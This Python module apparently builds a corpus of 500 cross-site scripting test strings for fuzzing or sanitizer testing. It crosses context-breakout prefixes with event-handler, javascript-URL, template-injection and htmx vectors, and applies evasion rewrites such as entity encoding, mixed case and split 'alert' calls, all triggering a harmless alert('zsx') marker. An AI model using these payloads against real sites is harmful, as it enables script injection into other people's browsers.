"""Five hundred texts that would run something, were a page to take them for markup: made of where they stand, what they are and how it
is written, each of the three with each of the others."""

import html
from collections.abc import Callable
from itertools import product

ACT = "alert('zsx')"
# How the text would leave the place that it stands in: an element's text, a quoted value, a script, a style, a comment.
PLACES = [
    "", "\">", "'>", "`>", "</p>", "-->", "]]>", "*/", "';", "\";", "</a>", "</td>", "</li>", "</svg>", "</math>",
    "</title>", "</style>", "</script>", "</select>", "</option>", "</textarea>", "</template>", "</noscript>",
]  # fmt: skip
# What of an element runs by itself: the element, what else it needs, what tells that it came.
RUNS = [
    ("img", "src=x", "onerror"), ("image", "src=x", "onerror"), ("svg", "", "onload"), ("body", "", "onload"),
    ("input", "autofocus", "onfocus"), ("select", "autofocus", "onfocus"), ("textarea", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"), ("details", "open", "ontoggle"), ("audio", "src=x", "onerror"),
    ("video", "src=x", "onerror"), ("iframe", "", "onload"), ("object", "data=x", "onerror"), ("embed", "src=x", "onload"),
    ("link", "rel=stylesheet href=x", "onerror"), ("style", "", "onload"), ("marquee", "", "onstart"),
    ("x", "id=x tabindex=1 autofocus", "onfocus"), ("p", "style=animation:x", "onanimationstart"), ("svg", "id=x", "onfocusin"),
]  # fmt: skip
# What leads or loads: the element, and what of it names an address.
LEADS = [
    ("a", "href"), ("iframe", "src"), ("embed", "src"), ("object", "data"), ("form", "action"), ("base", "href"),
    ("input type=image", "formaction"), ("script", "src"), ("area", "href"), ("math", "xlink:href"), ("use", "href"), ("frame", "src"),
]  # fmt: skip
OTHERS = [
    f"<script>{ACT}</script>", f"<svg><script>{ACT}</script>", f"<iframe srcdoc='<script>{ACT}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:zsx'>", "<style>@import'//zsx.example'</style>",
    "<svg><set onbegin=" + ACT + " attributeName=x>", "<svg><animate onbegin=" + ACT + " attributeName=x>",
    "<template><script>" + ACT + "</script></template>", "<noscript><p title='</noscript><img src=x onerror=" + ACT + ">'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=" + ACT + ">", "<xmp><img src=x onerror=" + ACT + "></xmp>",
    "{{constructor.constructor(\"alert('zsx')\")()}}", "${alert('zsx')}", "<?= a*a ?>zsx", "{%debug%}zsx", "#{7*7}zsx",
    "<div hx-get=/zsx hx-trigger=load>", "<div hx-on:htmx:load=" + ACT + ">", "<div data-hx-on-htmx-load=" + ACT + ">",
]  # fmt: skip


def _entities(text: str) -> str:
    """Letters of the act as numbers, which an attribute's value reads as letters."""
    return text.replace("alert", "&#97;lert").replace("javascript", "&#x6a;avascript")


def _swapped(text: str) -> str:
    return "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(text)).replace("ZSX", "zsx")


def _mixed(text: str) -> str:
    """Capitals and small letters by turns in names of elements, which mean the same; the mark stays as it is."""
    return "zsx".join(_swapped(part) for part in text.split("zsx"))


WAYS: list[Callable[[str], str]] = [
    str,
    _mixed,
    _entities,
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace("=", " = "),
    lambda text: text.replace("('zsx')", "`zsx`"),
    lambda text: text.replace("javascript:", "java\tscript:").replace("alert(", "self['al'+'ert']("),
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace("<", "\u3008").replace(">", "\u3009"),
    lambda text: html.escape(text, quote=False),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.rstrip(">"),
]


def _vectors() -> list[str]:
    runs = [" ".join(f"<{element} {needs} {event}={ACT}>".split()) for element, needs, event in RUNS]
    leads = [f"<{element} {name}=javascript:{ACT}>x" for element, name in LEADS]
    return [*runs, *leads, *OTHERS]


def scripts(many: int = 500) -> list[str]:
    """So many, each vector, each place and each way of writing among them; no two begin with the same forty signs, so that they stay
    different where a column cuts them."""
    vectors, made = _vectors(), dict[str, str]()
    turns = product(range(len(WAYS)), range(len(PLACES)), range(len(vectors)))
    for way, place, vector in sorted(turns, key=lambda one: (sum(one) % 17, one)):
        text = PLACES[place] + WAYS[way](vectors[vector])
        if "zsx" in text and len(text) <= 110:
            made.setdefault(text[:40], text)
    step = len(made) // many
    return [text for turn, text in enumerate(made.values()) if turn % step == 0][:many]
